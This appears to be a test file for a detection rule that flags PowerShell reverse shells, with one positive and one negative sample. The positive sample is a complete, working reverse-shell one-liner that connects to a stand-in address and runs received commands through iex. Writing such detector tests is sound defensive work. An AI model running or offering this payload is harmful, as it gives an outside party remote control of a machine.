# The classic PowerShell reverse shell.
# ruleid: powershell.proc.reverse_shell
$client = New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()
# ok: powershell.proc.reverse_shell
$tcp = New-Object System.Net.Sockets.TcpClient('db.internal', 5432); $tcp.Close()
